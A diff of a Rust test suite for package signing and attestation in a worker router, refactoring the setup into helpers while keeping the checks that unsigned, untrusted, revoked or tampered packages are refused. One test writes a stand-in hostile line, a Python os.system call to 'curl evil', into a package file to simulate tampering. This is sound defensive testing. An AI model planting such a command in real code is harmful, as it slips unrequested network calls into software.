@@ -4,14 +4,14 @@
 use crate::support;
 
 use attest::{
-    sign_package, BuildSource, HashCache, HashOptions, KeyStore, LiveHashes, Namespace,
-    NamespaceKey, PackageRef, Reason, SignRequest, SignedPackages, TrustSource, TrustStore,
+    sign_package, HashCache, KeyStore, LiveHashes, Namespace, NamespaceKey, PackageRef, Reason,
+    SignedPackages, TrustSource, TrustStore,
 };
 use serde_json::{json, Value};
 use std::path::{Path, PathBuf};
 use std::sync::{Arc, Mutex};
-use support::write_tree;
-use wcp::{DenyCode, Registry, RouteDecision, Router, RuleSet};
+use support::{local_sign_request, rules_and_registry, write_tree};
+use wcp::{DenyCode, RouteDecision, Router};
 
 const SPECIES: &str = "wrk.doc.summarizer";
 const WORKER: &str = "org.acme.summarizer";
@@ -63,16 +63,8 @@ impl Setup {
     }
 
     fn sign(&self, worker_id: &str, key: &NamespaceKey) {
-        let request = SignRequest {
-            worker_id,
-            worker_species_id: SPECIES,
-            worker_version: "1.2.0",
-            build_source: BuildSource::Local,
-            hmac_secret: None,
-            hash: HashOptions::default(),
-            progress: None,
-            now: "2026-12-01T10:00:00Z".parse().unwrap(),
-        };
+        let now = "2026-12-01T10:00:00Z".parse().unwrap();
+        let request = local_sign_request(worker_id, SPECIES, "1.2.0", now);
         sign_package(&self.path("pkg"), key, &request).unwrap();
     }
 
@@ -84,17 +76,23 @@ impl Setup {
     }
 
     fn router(&self, record: Value) -> Router {
-        let rules = RuleSet::from_json(&json!({"rules": [{
-            "rule_id": "r1",
-            "match": {"capability_id": "cap.doc.summarize"},
-            "decision": {"candidate_workers_ranked": [{"worker_species_id": SPECIES}]}
-        }]}))
-        .unwrap();
-        let mut registry = Registry::new();
-        registry.enroll(&record).unwrap();
+        let (rules, registry) = rules_and_registry(SPECIES, &record);
         let hashes = LiveHashes::from_registry(&registry, self.dir.path(), self.cache.clone())
             .with_signed_packages(self.signed.clone());
         Router::new(Arc::new(rules), Arc::new(registry)).with_worker_hashes(Arc::new(hashes))
+    }
+
+    /// A router for WORKER, its package in `pkg/`.
+    fn pkg_router(&self) -> Router {
+        self.router(record(WORKER, json!({"package_dir": "pkg"})))
+    }
+
+    /// WORKER's package signed with the trusted key, and a router that lets it route.
+    fn signed_router(&self) -> Router {
+        self.sign(WORKER, &self.key);
+        let router = self.pkg_router();
+        assert!(!route(&router).denied);
+        router
     }
 
     fn refusals(&self) -> Vec<(String, Reason)> {
@@ -144,7 +142,7 @@ fn refused(d: &RouteDecision) -> (DenyCode, String, String) {
 fn a_signed_and_trusted_package_routes_and_the_decision_says_it_was_checked() {
     let s = Setup::new();
     s.sign(WORKER, &s.key);
-    let d = route(&s.router(record(WORKER, json!({"package_dir": "pkg"}))));
+    let d = route(&s.pkg_router());
     assert!(!d.denied, "{:?}", d.deny_reason_if_denied);
     assert!(d.worker_attestation_checked);
     assert_eq!(d.worker_attestation_valid, Some(true));
@@ -162,7 +160,7 @@ fn a_signed_and_trusted_package_routes_and_the_decision_says_it_was_checked() {
 #[test]
 fn an_unsigned_package_is_refused_as_unsigned() {
     let s = Setup::new();
-    let d = route(&s.router(record(WORKER, json!({"package_dir": "pkg"}))));
+    let d = route(&s.pkg_router());
     let (code, reason, message) = refused(&d);
     assert_eq!(code, DenyCode::WorkerAttestationMissing);
     assert_eq!(reason, "unsigned");
@@ -177,9 +175,7 @@ fn a_key_the_trust_store_does_not_hold_is_refused_as_untrusted() {
     let s = Setup::new();
     let other = key_for(&s.path("elsewhere"), "org.acme");
     s.sign(WORKER, &other);
-    let (code, reason, message) = refused(&route(
-        &s.router(record(WORKER, json!({"package_dir": "pkg"}))),
-    ));
+    let (code, reason, message) = refused(&route(&s.pkg_router()));
     assert_eq!(code, DenyCode::WorkerAttestationMissing);
     assert_eq!(reason, "untrusted_key");
     assert!(message.contains(&other.key_id()), "{message}");
@@ -188,9 +184,7 @@ fn a_key_the_trust_store_does_not_hold_is_refused_as_untrusted() {
 #[test]
 fn revoking_the_key_refuses_the_very_next_route_and_reports_it_once() {
     let s = Setup::new();
-    s.sign(WORKER, &s.key);
-    let router = s.router(record(WORKER, json!({"package_dir": "pkg"})));
-    assert!(!route(&router).denied);
+    let router = s.signed_router();
     s.edit_trust(|t| {
         t.revoke_key(&s.key.key_id());
     });
@@ -205,9 +199,7 @@ fn revoking_the_key_refuses_the_very_next_route_and_reports_it_once() {
 #[test]
 fn revoking_the_package_hash_refuses_the_next_route() {
     let s = Setup::new();
-    s.sign(WORKER, &s.key);
-    let router = s.router(record(WORKER, json!({"package_dir": "pkg"})));
-    assert!(!route(&router).denied);
+    let router = s.signed_router();
     let hash = attest::package_hash(&s.path("pkg")).unwrap();
     s.edit_trust(|t| {
         t.revoke_package(&hash).unwrap();
@@ -234,9 +226,7 @@ fn a_namespace_signing_for_another_namespace_s_worker_is_refused() {
 #[test]
 fn a_tampered_package_is_refused_naming_the_files_that_changed() {
     let s = Setup::new();
-    s.sign(WORKER, &s.key);
-    let router = s.router(record(WORKER, json!({"package_dir": "pkg"})));
-    assert!(!route(&router).denied);
+    let router = s.signed_router();
     std::fs::write(
         s.path("pkg/summarize.py"),
         "import os; os.system('curl evil')\n",
@@ -275,9 +265,7 @@ fn a_manifest_edited_to_match_tampered_files_is_refused_as_tampered() {
         .unwrap()
         .replace(&old, &new);
     std::fs::write(&manifest, text).unwrap();
-    let (code, reason, _) = refused(&route(
-        &s.router(record(WORKER, json!({"package_dir": "pkg"}))),
-    ));
+    let (code, reason, _) = refused(&route(&s.pkg_router()));
     assert_eq!(
         (code, reason.as_str()),
         (DenyCode::WorkerTampered, "tampered")
@@ -335,9 +323,7 @@ fn an_unreadable_trust_store_refuses_every_package() {
     let s = Setup::new();
     s.sign(WORKER, &s.key);
     std::fs::write(s.path("trust.json"), "{ not json").unwrap();
-    let (code, reason, message) = refused(&route(
-        &s.router(record(WORKER, json!({"package_dir": "pkg"}))),
-    ));
+    let (code, reason, message) = refused(&route(&s.pkg_router()));
     assert_eq!(code, DenyCode::WorkerHashUnavailable);
     assert_eq!(reason, "unreadable");
     assert!(message.contains("trust store"), "{message}");
